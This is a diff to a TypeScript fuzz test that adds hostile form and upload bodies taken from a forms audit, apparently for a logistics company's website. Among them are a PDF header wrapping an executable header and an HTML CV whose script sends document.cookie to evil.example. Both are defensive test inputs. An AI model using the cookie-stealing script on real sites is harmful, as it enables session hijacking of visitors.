@@ -79,7 +79,66 @@ const hostileJson = fc.oneof(
     }),
   fc.record({ formId: hostileStrings, locale: hostileStrings, values: fc.anything() }).map((value) => JSON.stringify(value)),
 )
-const bodies = fc.oneof(hostileStrings, hostileJson, fc.uint8Array({ maxLength: 4096 }))
+/**
+ * Issue 19's audit of the forms and applications: a calculator lead with invented numbers and an
+ * invented haul type, "call me by phone" without a phone and an extension with letters, one file
+ * attached twice, an upload started without the form page's token, a PDF header before a program,
+ * an HTML CV with a script.
+ */
+const FILE_ID = "6b1f4f4e-7d1c-4b0e-9a53-2f1c9d0e8a77"
+const formsAuditBodies = fc.constantFrom(
+  JSON.stringify({
+    formId: "calculator",
+    locale: "nl",
+    values: {
+      company: "Jansen",
+      first_name: "Jan",
+      last_name: "Jansen",
+      email: "jan@example.nl",
+      phone: "06 1234 5678",
+      privacy: true,
+      calculation: {
+        drivers: ["costs"],
+        assets: ["e-Reefer"],
+        haul_type: "Invented",
+        frequency: "daily",
+        infrastructure: ["none"],
+        hours: 2000,
+        diesel_total: 999999,
+      },
+    },
+    context: { pageUri: "https://www.fleetlane.example/nl/e-reefer-calculator/", pageName: "Calculator" },
+  }),
+  JSON.stringify({
+    form_id: "ca_contact",
+    language: "en-ca",
+    branch: "CA01",
+    department: "All",
+    first_name: "Sam",
+    last_name: "Lee",
+    email: "sam@example.ca",
+    phone: "",
+    ext: "12a",
+    callback: "Phone",
+    feedback: "Call me",
+    privacy: true,
+  }),
+  JSON.stringify({
+    formId: "job_application_vacancy",
+    locale: "nl",
+    values: {
+      jobRequisitionId: "JR-1",
+      fileList: [
+        { fileId: FILE_ID, name: "cv.pdf", size: 1000 },
+        { fileId: FILE_ID, name: "cv.pdf", size: 1000 },
+      ],
+    },
+  }),
+  JSON.stringify({ name: "cv.pdf", size: 5_242_880 }),
+  `%PDF-1.7\nMZ\u0090\u0000\u0003PE\u0000\u0000\n%%EOF\n`,
+  "<html><body><h1>CV</h1><script>location='https://evil.example/?'+document.cookie</script></body></html>",
+)
+const bodies = fc.oneof(hostileStrings, hostileJson, fc.uint8Array({ maxLength: 4096 }), formsAuditBodies)
 const queries = fc.oneof(
   fc.dictionary(fc.string(), fc.string()).map((params) => new URLSearchParams(params).toString()),
   fc
